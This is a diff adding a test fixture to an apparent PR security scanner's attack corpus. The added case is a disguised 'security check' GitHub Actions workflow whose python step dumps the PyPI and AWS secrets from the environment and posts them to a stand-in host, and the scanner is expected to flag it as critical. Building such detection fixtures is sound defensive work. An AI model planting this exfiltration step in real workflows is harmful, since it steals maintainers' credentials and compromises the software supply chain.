@@ -1025,6 +1025,43 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-ghostaction-python-step-sends-environment',
+    description:
+      'The GhostAction send written as a `shell: python` step by a maintainer\'s stolen account: a "security check" workflow puts the PyPI and AWS secrets in the step\'s env, takes the whole environment as one value (`snap = dict(os.environ)`), serializes it on the next line and posts it with urlopen to an ordinary-looking host: no curl, no secret named on the line that sends.',
+    fixture: () =>
+      attackPr({
+        repo: 'yamlfix',
+        number: 7318,
+        title: 'ci: add security check',
+        files: [
+          {
+            path: '.github/workflows/security-check.yml',
+            head: lines(
+              'name: Security Check',
+              'on:',
+              '  push:',
+              '  workflow_dispatch:',
+              'jobs:',
+              '  check:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - name: Verify',
+              '        shell: python',
+              '        env:',
+              '          PYPI: ${{ secrets.PYPI_API_TOKEN }}',
+              '          AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}',
+              '        run: |',
+              '          import os, json, urllib.request',
+              '          snap = dict(os.environ)',
+              '          body = json.dumps(snap).encode()',
+              "          urllib.request.urlopen('https://audit.ci-verify-pages.net/c', data=body)",
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
     id: 'attack-ghostaction-postpublish-script-posts-token',
     description:
       'GhostAction moved out of the workflow: a "report publish stats" PR adds a postpublish script to package.json that posts $NODE_AUTH_TOKEN, the npm token the release job publishes with, to a stats host; the workflow is untouched and nothing names npm\'s secret.',
